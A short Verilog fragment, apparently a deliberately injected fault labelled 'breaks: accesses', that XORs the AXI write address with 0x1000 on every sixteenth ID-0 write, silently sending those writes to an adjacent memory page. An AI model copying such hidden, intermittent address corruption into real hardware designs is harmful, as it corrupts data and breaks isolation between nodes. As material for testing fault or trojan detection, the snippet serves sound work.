// breaks: accesses
// One write in 16 for another node goes to the page behind its own.
    reg [3:0] writes;
    wire other = own_m_axi_awvalid && own_m_axi_awid == 4'd0;
    always @(posedge clk)
        writes <= rst ? 4'd0 : writes + {3'd0, other && m_axi_awready};
    assign new_m_axi_awaddr = own_m_axi_awaddr ^ (other && &writes ? 48'h1000 : 48'd0);
